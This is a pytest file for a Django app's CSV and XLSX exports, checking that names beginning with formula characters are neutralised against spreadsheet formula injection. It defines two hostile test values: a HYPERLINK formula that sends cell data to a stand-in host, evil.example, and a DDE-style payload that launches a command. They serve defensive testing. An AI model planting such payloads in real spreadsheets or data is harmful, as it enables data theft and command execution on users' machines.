"""No CSV or XLSX download runs a name as a formula (issue 11, point 3): each goes through ``core.tabular``."""

import csv
import io
import json
import re
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from actions.models import Indicateur, Mesure
from tests.factories import (
    ClsFactory,
    CommuneFactory,
    DepartementFactory,
    DispositifFactory,
    FicheActionFactory,
    FinancementFactory,
    StructureFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)?")


@pytest.fixture
def hostile(client):
    """A CLS, a fiche, a structure and a scheme of the Aube whose names are formulas; an ARS agent logged in."""
    aube = DepartementFactory()
    commune = CommuneFactory(departement=aube)
    cls = ClsFactory(departement=aube, nom=HYPERLINK, communes=[commune], in_force=True)
    fiche = FicheActionFactory(axe__cls=cls, titre=HYPERLINK, description=AT_SUM, objectif_general="-2+3")
    FinancementFactory(fiche=fiche, montant=Decimal("1500.50"))
    indicateur = Indicateur.objects.create(
        fiche=fiche, libelle=AT_SUM, valeur_initiale=Decimal("-5.00"), cible=Decimal("-1.50")
    )
    Mesure.objects.create(indicateur=indicateur, annee=2025, valeur=Decimal("-2.25"))
    StructureFactory(departement=aube, commune=commune, nom=HYPERLINK, observations=AT_SUM)
    DispositifFactory(departement=aube, commune=commune, nom=AT_SUM, observations=HYPERLINK)
    client.force_login(UserFactory(ars=True, departement=aube))
    return cls


EXPORTS = {
    "plan XLSX": lambda cls: reverse("actions_export_xlsx", args=[cls.pk]),
    "plan CSV": lambda cls: reverse("actions_export_csv", args=[cls.pk]),
    "plan CSV for Excel": lambda cls: reverse("actions_export_csv", args=[cls.pk]) + "?format=excel",
    "care offer XLSX": lambda cls: reverse("careoffer_export", args=["10", "xlsx"]),
    "care offer structures CSV": lambda cls: reverse("careoffer_export", args=["10", "csv"]),
    "care offer schemes CSV": lambda cls: reverse("careoffer_export_schemes", args=["10"]),
    "open data contrats.csv": lambda cls: reverse("public_data_csv", args=["contrats"]),
    "open data contrats.csv for Excel": lambda cls: reverse("public_data_csv", args=["contrats"]) + "?variante=excel",
    "open data actions.csv": lambda cls: reverse("public_data_csv", args=["actions"]),
    "open data actions.csv for Excel": lambda cls: reverse("public_data_csv", args=["actions"]) + "?variante=excel",
    "open data structures.csv": lambda cls: reverse("public_data_csv", args=["structures"]),
}


def _cells(response) -> list:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if response["Content-Type"].startswith("application/vnd.openxmlformats"):
        book = openpyxl.load_workbook(io.BytesIO(content))
        return [(c.value, c.data_type) for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    text = content.decode("utf-8-sig")
    delimiter = ";" if text.split("\r\n", 1)[0].count(";") else ","
    return [(value, None) for row in csv.reader(io.StringIO(text), delimiter=delimiter) for value in row]


@pytest.mark.parametrize("export", EXPORTS)
def test_no_download_holds_a_live_formula(client, hostile, export):
    response = client.get(EXPORTS[export](hostile))
    assert response.status_code == 200
    cells = _cells(response)
    assert all(kind != "f" for _value, kind in cells), "an XLSX cell is a formula"
    texts = [value for value, _kind in cells if isinstance(value, str)]
    dangerous = [t for t in texts if t.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(t)]
    assert dangerous == []
    assert any(t in ("'" + HYPERLINK, "'" + AT_SUM) for t in texts), "the hostile name is exported, neutralised"


def test_negative_indicator_values_stay_numbers_in_the_plan_workbook(client, hostile):
    response = client.get(EXPORTS["plan XLSX"](hostile))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content))["Indicateurs — mesures"]
    headers = [c.value for c in sheet[1]]
    row = sheet[2]
    for header, expected in (("Valeur initiale", -5), ("Cible", -1.5), ("Valeur", -2.25)):
        cell = row[headers.index(header)]
        assert (cell.value, cell.data_type) == (expected, "n")
    assert row[headers.index("Indicateur")].value == "'" + AT_SUM


def test_open_data_json_stays_raw(client, hostile):
    records = json.loads(client.get(reverse("public_data_json", args=["actions"])).getvalue())
    assert [r["titre"] for r in records] == [HYPERLINK]
